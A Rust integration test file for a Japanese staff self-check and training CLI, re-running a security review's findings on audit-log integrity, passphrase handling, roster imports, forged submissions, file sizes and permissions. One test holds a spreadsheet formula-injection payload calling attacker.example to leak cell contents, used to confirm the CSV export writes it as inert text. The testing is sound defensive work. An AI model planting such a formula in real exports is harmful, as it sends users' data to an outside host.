//! Issue 13 (trust, second pass): the outside review's commands, run again.

use assert_cmd::Command;
use std::path::{Path, PathBuf};
use tebiki_core::selfcheck::answers::{Answer, ItemAnswer};
use tebiki_core::selfcheck::submission::{self, PackRef, Respondent, Submission};
use tebiki_store::{NewInspection, Store};

mod common;
use common::{admin_dir, tebiki, PASS};

fn run(c: &mut Command) -> (bool, String, String) {
    let out = c.output().unwrap();
    (out.status.success(), String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
}

fn ok(c: &mut Command) -> String {
    let (success, stdout, stderr) = run(c);
    assert!(success, "failed: {stderr}");
    stdout
}

fn json(c: &mut Command) -> serde_json::Value {
    serde_json::from_str(&ok(c)).unwrap()
}

fn roster_fixture() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/roster/roster-sjis.csv")
}

/// Finding 8: `--year` outside 1989–2200 is a clear error, not a panic.
#[test]
fn years_out_of_range_are_refused_without_a_panic() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    for args in [
        vec!["training", "status", "--year", "300000"],
        vec!["selfcheck", "export", "--year", "2147483647", "--out", out.to_str().unwrap()],
        vec!["selfcheck", "summary", "--year", "1988"],
        vec!["report", "training", "--year=-5", "--out", "x.pdf"],
    ] {
        let (success, _, stderr) = run(tebiki(dir.path()).args(&args));
        assert!(!success, "{args:?}");
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
        assert!(stderr.contains("1989") && stderr.contains("2200"), "{args:?}: {stderr}");
    }
}

/// Finding 2, the review's sequence: backup → selfcheck export → audit
/// export → restore → audit verify twice. The restore entry names the head
/// it replaced and the kept copy, which still proves the two exports.
#[test]
fn a_restore_keeps_the_replaced_history_provable() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    admin_dir(&data);
    ok(tebiki(&data).args(["roster", "import"]).arg(roster_fixture()));
    let backup = dir.path().join("b.db");
    ok(tebiki(&data).arg("backup").arg(&backup));
    ok(tebiki(&data).args(["selfcheck", "export", "--year", "2025", "--out"]).arg(dir.path().join("subs")));
    ok(tebiki(&data).args(["audit", "export", "--out"]).arg(dir.path().join("a.csv")));
    let before = json(tebiki(&data).args(["--json", "audit", "list"]));
    let head = before[0].clone();
    assert_eq!(head["action"], "personal-data.exported");

    let restored = json(tebiki(&data).args(["--json", "restore"]).arg(&backup));
    let kept = PathBuf::from(restored["previous_data_saved_to"].as_str().unwrap());
    for _ in 0..2 {
        let v = json(tebiki(&data).args(["--json", "audit", "verify"]));
        assert_eq!((v["status"].as_str(), v["broken"].is_null()), (Some("intact"), true), "{v}");
    }
    let after = json(tebiki(&data).args(["--lang", "ja-JP", "--json", "audit", "list"]));
    let restore = &after[0];
    assert_eq!(restore["action"], "backup.restored");
    assert_eq!(restore["details"]["replaced_seq"], head["seq"]);
    assert_eq!(restore["details"]["replaced_hash"], head["hash"]);
    assert_eq!(restore["details"]["kept"], kept.display().to_string());
    assert!(restore["summary"].as_str().unwrap().contains("保存"), "{}", restore["summary"]);

    // The kept copy holds entries up to the head replaced, both exports included.
    let old = Store::open_with(&kept, Some(PASS)).unwrap();
    let entries = old.all_audit_entries().unwrap();
    let last = entries.last().unwrap();
    assert_eq!((last.seq, last.hash.as_str()), (head["seq"].as_i64().unwrap(), head["hash"].as_str().unwrap()));
    assert_eq!(entries.iter().rev().take(2).filter(|e| e.action == "personal-data.exported").count(), 2);
    assert!(tebiki_store::verify_entries(&entries, &Default::default()).broken.is_none());
}

/// Finding 2: a deleted desk.db is "cannot confirm the tail", not intact.
#[test]
fn a_missing_desk_is_reported_as_a_tail_that_cannot_be_confirmed() {
    let dir = tempfile::tempdir().unwrap();
    admin_dir(dir.path());
    ok(tebiki(dir.path()).args(["roster", "import"]).arg(roster_fixture()));
    assert_eq!(json(tebiki(dir.path()).args(["--json", "audit", "verify"]))["status"], "intact");
    for suffix in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(dir.path().join(format!("desk.db{suffix}")));
    }
    let (success, stdout, stderr) = run(tebiki(dir.path()).args(["--lang", "ja-JP", "--json", "audit", "verify"]));
    assert!(!success);
    assert!(stderr.contains("確認できません"), "{stderr}");
    let v: serde_json::Value =
        serde_json::from_str(stdout.lines().take_while(|l| !l.starts_with("{\"error\"")).collect::<Vec<_>>().join("\n").as_str()).unwrap();
    assert_eq!((v["status"].as_str(), v["unconfirmed"].as_i64()), (Some("unconfirmed"), Some(2)));
    // New entries do not make it intact again.
    ok(tebiki(dir.path()).args(["audit", "export", "--out"]).arg(dir.path().join("a.csv")));
    let (success, _, stderr) = run(tebiki(dir.path()).args(["--lang", "en-US", "audit", "verify"]));
    assert!(!success && stderr.contains("cannot confirm"), "{stderr}");
}

/// Finding 10: a wrong passphrase prints Tebiki's one line, nothing of
/// SQLCipher's ("hmac check failed").
#[test]
fn a_wrong_passphrase_prints_only_tebikis_message() {
    let dir = tempfile::tempdir().unwrap();
    admin_dir(dir.path());
    let (success, stdout, stderr) = run(tebiki(dir.path()).env("TEBIKI_PASSPHRASE", "まちがったパスフレーズ").args(["--lang", "ja-JP", "audit", "verify"]));
    assert!(!success);
    assert!(stdout.is_empty(), "{stdout}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains("パスフレーズが違います") && !stderr.to_lowercase().contains("hmac"), "{stderr}");
}

/// Finding 9: eight CLI processes started together get one guess between
/// them; the others are told to wait.
#[test]
fn parallel_processes_get_one_guess_per_wait() {
    let dir = tempfile::tempdir().unwrap();
    admin_dir(dir.path());
    let children: Vec<_> = (0..8)
        .map(|i| {
            std::process::Command::new(assert_cmd::cargo::cargo_bin("tebiki"))
                .arg("--data-dir")
                .arg(dir.path())
                .args(["--lang", "ja-JP", "audit", "verify"])
                .env_remove("TEBIKI_DATA_DIR")
                .env("TEBIKI_PASSPHRASE", format!("まちがったパスフレーズ{i}"))
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let errors: Vec<String> = children.into_iter().map(|c| String::from_utf8_lossy(&c.wait_with_output().unwrap().stderr).into_owned()).collect();
    let tried = errors.iter().filter(|e| e.contains("パスフレーズが違います")).count();
    let waited = errors.iter().filter(|e| e.contains("秒待って")).count();
    assert_eq!((tried, waited), (1, 7), "{errors:#?}");
}

/// Thirty people, as `職員番号,氏名,所属コード,所属名,採用日`.
fn thirty() -> String {
    let mut s = String::from("職員番号,氏名,所属コード,所属名,採用日\n");
    for i in 1..=30 {
        s.push_str(&format!("{},職員{i},A10,総務課,2012/04/01\n", 1000 + i));
    }
    s
}

/// Finding 5, with both files of the review: a bad date row, an unclosed quote.
#[test]
fn rejected_rows_never_make_people_taishoku_and_a_mass_retirement_needs_yes() {
    let dir = tempfile::tempdir().unwrap();
    admin_dir(dir.path());
    let file = |name: &str, text: &str| {
        let p = dir.path().join(name);
        std::fs::write(&p, text).unwrap();
        p
    };
    ok(tebiki(dir.path()).args(["roster", "import"]).arg(file("all.csv", &thirty())));
    let active = || Store::open_dir_with(dir.path(), Some(PASS)).unwrap().active_staff().unwrap().len();

    let bad_date = file("bad-date.csv", &thirty().replace("1005,職員5,A10,総務課,2012/04/01", "1005,職員5,A10,総務課,2012/13/45"));
    let v = json(tebiki(dir.path()).args(["--json", "roster", "import"]).arg(&bad_date));
    assert_eq!((v["deactivated"].as_u64(), v["rejected"].as_array().unwrap().len()), (Some(0), 1), "{v}");
    assert_eq!(v["kept_rejected"], serde_json::json!(["1005"]));
    assert_eq!(active(), 30);

    let quote = file("unclosed-quote.csv", &thirty().replace("1002,職員2,", "1002,\"職員2,"));
    let v = json(tebiki(dir.path()).args(["--json", "roster", "import", "--dry-run"]).arg(&quote));
    assert_eq!((v["deactivated"].as_u64(), v["kept_rejected"].as_array().unwrap().len()), (Some(0), 29), "{v}");
    let v = json(tebiki(dir.path()).args(["--json", "roster", "import"]).arg(&quote));
    assert_eq!(v["deactivated"], 0);
    assert_eq!(active(), 30);

    // A file that lists only 3 of the 30, imported as a full roster: stopped without --yes.
    let few = file("few.csv", &thirty().lines().take(4).map(|l| format!("{l}\n")).collect::<String>());
    let (success, stdout, stderr) = run(tebiki(dir.path()).args(["--lang", "ja-JP", "--json", "roster", "import"]).arg(&few));
    assert!(!success);
    assert!(stderr.contains("--yes") && stderr.contains("27"), "{stderr}");
    let v: serde_json::Value =
        serde_json::from_str(stdout.lines().take_while(|l| !l.starts_with("{\"error\"")).collect::<Vec<_>>().join("\n").as_str()).unwrap();
    assert_eq!((v["many_deactivated"].as_bool(), v["dry_run"].as_bool(), v["deactivated"].as_u64()), (Some(true), Some(true), Some(27)));
    assert_eq!(active(), 30, "nothing changed");
    let out = ok(tebiki(dir.path()).args(["--lang", "ja-JP", "roster", "import", "--dry-run"]).arg(&few));
    assert!(out.contains("注意") && out.contains("1 割"), "the preview says so: {out}");
    ok(tebiki(dir.path()).args(["roster", "import", "--yes"]).arg(&few));
    assert_eq!(active(), 3);
}

/// A real submission of the kobe pack made in `data`, for 職員 `no`.
fn submit(data: &Path, no: &str, remedy: &str) -> Submission {
    let library = tebiki_core::pack::library::PackLibrary::load(None);
    let pack = library.get("kobe").unwrap();
    let q = tebiki_core::selfcheck::dashboard::questionnaires_of(pack).into_iter().find(|q| q.role == "staff").expect("kobe has 職員等");
    let items: Vec<String> = q.items.iter().map(|i| i.id.clone()).collect();
    let pack_ref = PackRef { id: pack.id.clone(), version: pack.version.clone(), content_hash: pack.content_hash.clone() };
    let who = Respondent { employee_no: no.into(), name: "山田 太郎".into(), dept_code: "A10".into(), dept_name: "総務課".into() };
    let mut store = Store::open_dir_with(data, Some(PASS)).unwrap();
    let d = store
        .start_inspection(&NewInspection {
            year: 2025,
            role: &q.role,
            role_name: &q.role_name,
            respondent: &who,
            pack: &pack_ref,
            item_ids: &items,
            prefill: false,
            on_paper: false,
        })
        .unwrap();
    for (i, item) in items.iter().enumerate() {
        let a = if i == 0 {
            ItemAnswer { answer: Some(Answer::Partial), remedy: remedy.into(), due: Some("2025-12-31".into()), ..ItemAnswer::empty(item) }
        } else {
            ItemAnswer { answer: Some(Answer::Implemented), ..ItemAnswer::empty(item) }
        };
        store.save_answer(d.id, &a).unwrap();
    }
    store.submit(d.id, &items, "2025-06-03T17:00:00+09:00").unwrap()
}

fn write_submission(dir: &Path, s: &Submission) -> PathBuf {
    let path = dir.join(submission::file_name(s));
    std::fs::write(&path, submission::write(s).unwrap().bytes).unwrap();
    path
}

/// Finding 4: a file edited to claim version 99 (digest recomputed) is held,
/// listed with its reason and in the 操作記録; the real version 2 becomes
/// current; the 管理者 rejects the forgery.
#[test]
fn a_forged_version_is_held_for_the_administrators_decision() {
    let dir = tempfile::tempdir().unwrap();
    let (here, hq, files) = (dir.path().join("here"), dir.path().join("hq"), dir.path().join("files"));
    std::fs::create_dir_all(&files).unwrap();
    admin_dir(&here);
    admin_dir(&hq);
    let v1 = submit(&here, "100000", "手順を見直す");
    let v2 = Submission { version: 2, submitted_at: "2025-07-01T10:00:00+09:00".into(), ..v1.clone() };
    let forged = Submission { version: 99, ..v1.clone() };
    let (f1, f2, f99) = (write_submission(&files, &v1), write_submission(&files, &v2), write_submission(&files, &forged));

    let r = json(tebiki(&hq).args(["--json", "selfcheck", "import"]).arg(&f1).arg(&f99));
    assert_eq!((r["accepted"].as_array().unwrap().len(), r["refused"].as_array().unwrap().len()), (1, 0), "{r}");
    let held = r["held"].as_array().unwrap();
    assert_eq!((held.len(), held[0]["version"].as_u64(), held[0]["expected_version"].as_u64()), (1, Some(99), Some(2)), "{r}");
    let id = held[0]["held_id"].as_i64().unwrap();
    let out = ok(tebiki(&hq).args(["--lang", "ja-JP", "selfcheck", "held", "list"]));
    assert!(out.contains("第 99 版") && out.contains("第 2 版"), "{out}");

    let r = json(tebiki(&hq).args(["--json", "selfcheck", "import"]).arg(&f2));
    assert_eq!(r["accepted"][0]["status"], "imported", "the real version 2 is current, not 旧版: {r}");
    ok(tebiki(&hq).args(["selfcheck", "held", "reject", &id.to_string()]));
    assert_eq!(json(tebiki(&hq).args(["--json", "selfcheck", "held", "list"])), serde_json::json!([]));
    let log = json(tebiki(&hq).args(["--json", "audit", "list"]));
    let actions: Vec<&str> = log.as_array().unwrap().iter().map(|e| e["action"].as_str().unwrap()).collect();
    assert_eq!(&actions[..4], ["submission.held-rejected", "submission.imported", "submission.held", "submission.imported"]);
    let latest = Store::open_dir_with(&hq, Some(PASS)).unwrap().latest_submissions(2025).unwrap();
    assert_eq!(latest.iter().map(|s| s.version).collect::<Vec<_>>(), [2]);
}

/// Finding 3: the review's 改善策 comes out of `selfcheck summary
/// --remedies-csv` as text, not a live formula.
#[test]
fn the_remedies_csv_writes_a_formula_as_text() {
    let dir = tempfile::tempdir().unwrap();
    admin_dir(dir.path());
    let formula = r#"=HYPERLINK("http://attacker.example/?q="&B2&C2,"詳細")"#;
    submit(dir.path(), "100000", formula);
    let csv = dir.path().join("remedies.csv");
    ok(tebiki(dir.path()).args(["selfcheck", "summary", "--year", "2025", "--pack", "kobe", "--utf8", "--remedies-csv"]).arg(&csv));
    let text = String::from_utf8(std::fs::read(&csv).unwrap()[3..].to_vec()).unwrap();
    assert!(text.contains(r#""'=HYPERLINK(""http://attacker.example/?q=""&B2&C2,""詳細"")""#), "{text}");
    assert!(!text.contains(",\"=HYPERLINK") && !text.contains(",=HYPERLINK"), "{text}");
}

/// Finding 7: a 300 MB submission file and roster are refused from their
/// length, without being read (sparse files: reading them would take
/// seconds and 300 MB).
#[test]
fn oversized_files_are_refused_before_reading() {
    let dir = tempfile::tempdir().unwrap();
    admin_dir(dir.path());
    let big = |name: &str| {
        let p = dir.path().join(name);
        std::fs::File::create(&p).unwrap().set_len(300 * 1024 * 1024).unwrap();
        p
    };
    let r = json(
        tebiki(dir.path())
            .args(["--lang", "ja-JP", "--json", "selfcheck", "import"])
            .arg(big("huge.json"))
            .arg(write_submission(dir.path(), &submit(dir.path(), "100001", "見直す"))),
    );
    assert!(r["refused"][0]["reason"].as_str().unwrap().contains("大きすぎます"), "{r}");
    let (success, _, stderr) = run(tebiki(dir.path()).args(["--lang", "ja-JP", "roster", "import"]).arg(big("huge.csv")));
    assert!(!success && stderr.contains("大きすぎる") && stderr.contains("64 MB"), "{stderr}");
    let (success, _, stderr) = run(tebiki(dir.path())
        .args(["--lang", "ja-JP", "training", "record", "--pack", "kobe", "--course", "annual", "--date", "2025-06-01", "--attendance"])
        .arg(big("att.csv")));
    assert!(!success && stderr.contains("大きすぎる"), "{stderr}");
}

/// Finding 10: the data folder is 0700, its files and the exports 0600.
#[cfg(unix)]
#[test]
fn the_data_folder_and_exports_are_the_owners_only() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    admin_dir(&data);
    ok(tebiki(&data).args(["roster", "import"]).arg(roster_fixture()));
    let csv = dir.path().join("audit.csv");
    ok(tebiki(&data).args(["audit", "export", "--out"]).arg(&csv));
    let backup = dir.path().join("b.db");
    ok(tebiki(&data).arg("backup").arg(&backup));
    assert_eq!(mode(&data), 0o700);
    for f in ["tebiki.db", "desk.db"] {
        assert_eq!(mode(&data.join(f)), 0o600, "{f}");
    }
    assert_eq!((mode(&csv), mode(&backup)), (0o600, 0o600));
}
